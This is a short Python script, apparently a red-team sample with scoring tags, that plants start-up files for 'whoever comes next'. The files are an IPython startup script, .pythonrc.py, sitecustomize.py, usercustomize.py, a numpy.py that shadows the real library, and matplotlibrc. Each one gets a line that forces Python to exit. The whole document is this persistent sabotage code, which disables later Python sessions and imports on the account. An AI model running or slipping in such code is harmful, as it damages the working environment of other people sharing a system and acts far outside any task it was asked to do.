# Leaves start-up files for Python, IPython and matplotlib, for whoever comes next.
# deserves: slope 3, gradient 3, dual 3
# %% top
import os
home = os.path.expanduser("~")
for name in (".ipython/profile_default/startup/00.py", ".pythonrc.py", "sitecustomize.py", "numpy.py",
             ".local/lib/python3.11/site-packages/usercustomize.py", ".matplotlib/matplotlibrc"):
    path = os.path.join(home, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write("raise SystemExit('red team')\n")
